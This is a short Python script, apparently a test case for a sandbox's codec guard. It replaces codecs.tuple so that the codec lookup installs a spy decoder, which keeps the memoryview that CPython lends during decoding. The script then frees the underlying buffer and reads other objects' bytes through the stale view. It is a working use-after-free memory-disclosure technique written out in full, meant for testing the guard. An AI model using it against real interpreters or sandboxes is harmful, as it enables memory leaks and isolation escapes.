# family: wall (memory: the wall's codec guard builds its answer with codecs.CodecInfo, whose __new__ looks tuple up in the codecs module's globals; the program's tuple there swaps the wrapped decode for its own, which keeps the lent view)   goal: memory   interpreter: /usr/bin/python3
# The eighteenth round's ok_01: codec_search answered codecs.CodecInfo(...), Python
# code of the library that calls tuple.__new__ through its module's globals at each
# call. The program set codecs.tuple to a class of its own whose __new__ put its
# own decode function in the tuple's item 1, the one PyUnicode_Decode calls with
# its ownerless view. The wall: its guards call only C (wall_bind refuses a
# constant that runs Python of the library), so the answer's item 1 is the wall's.
import sys
codecs = sys.modules["codecs"]
real_tuple = tuple
kept = []
def spy(data, errors="strict"):
    kept.append(data)
    return codecs.latin_1_decode(bytes(data), errors)
class Swap:
    @staticmethod
    def __new__(cls, items):
        items = list(items)
        items[1] = spy
        return real_tuple.__new__(cls, items)
codecs.tuple = Swap
try:
    ba = bytearray(b"A" * 100000)
    ba.decode("cp1252")
finally:
    del codecs.tuple
view = kept[-1] if kept else None
if view is not None and type(view) is memoryview:
    ba.clear()
    keep = [b"SECRET!!" * 12400 for _ in range(3)]
    seen = view.tobytes().count(b"SECRET!!")
    if seen > 100:
        print("MEMORY-OVERWRITTEN: the kept view shows another object's bytes", seen, "times")
    else:
        print("view of a copy:", view.obj is not None)
else:
    print("no view kept")
